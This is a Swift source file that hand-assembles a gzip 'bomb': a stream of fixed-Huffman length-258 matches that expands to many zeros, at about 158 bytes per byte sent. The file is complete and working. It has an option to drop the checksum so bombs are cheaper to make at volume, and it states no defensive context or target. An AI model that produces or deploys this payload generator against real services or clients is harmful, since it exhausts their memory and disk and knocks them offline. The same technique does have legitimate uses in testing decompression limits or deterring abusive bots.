/// Gzip of nothing but zeros: 158 bytes for each byte that goes over the wire.
public enum Gzip {
    /// A gzip file of `count` zeros, rounded up to whole matches of 258 and the byte before them. A bomb that is
    /// never unpacked to its end can do without its checksum, which costs a nanosecond or two for each zero.
    public static func zeros(_ count: Int, checksum: Bool = true) -> [UInt8] {
        let matches = (count + 257) / 258
        var bits = BitWriter()
        bits.bytes = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]
        bits.put(0b011, 3)  // The last block, of fixed codes.
        bits.put(0b0000_1100, 8)  // The literal zero (0x30, most significant bit first).
        for _ in 0..<matches {
            bits.put(0b1010_0011, 8)  // Length 258 (code 285: 0xC5, most significant bit first).
            bits.put(0, 5)  // Distance 1.
        }
        bits.put(0, 7)  // The end of the block.
        bits.flush()
        let total = matches * 258 + 1
        for word in [checksum ? crc(zeros: total) : 0, UInt32(truncatingIfNeeded: total)] {
            for shift in stride(from: 0, to: 32, by: 8) { bits.bytes.append(UInt8(truncatingIfNeeded: word >> shift)) }
        }
        return bits.bytes
    }

    private static func crc(zeros count: Int) -> UInt32 {
        var table = [UInt32](repeating: 0, count: 256)
        for index in 0..<256 {
            var entry = UInt32(index)
            for _ in 0..<8 { entry = entry & 1 == 1 ? 0xEDB8_8320 ^ (entry >> 1) : entry >> 1 }
            table[index] = entry
        }
        var value = UInt32.max
        for _ in 0..<count { value = table[Int(value & 0xff)] ^ (value >> 8) }
        return ~value
    }

    private struct BitWriter {
        var bytes: [UInt8] = []
        private var pending: UInt32 = 0
        private var count = 0

        /// The lowest bit goes first.
        mutating func put(_ value: UInt32, _ width: Int) {
            pending |= value << UInt32(count)
            count += width
            while count >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: pending))
                pending >>= 8
                count -= 8
            }
        }

        mutating func flush() {
            if count > 0 { put(0, 8 - count) }
        }
    }
}
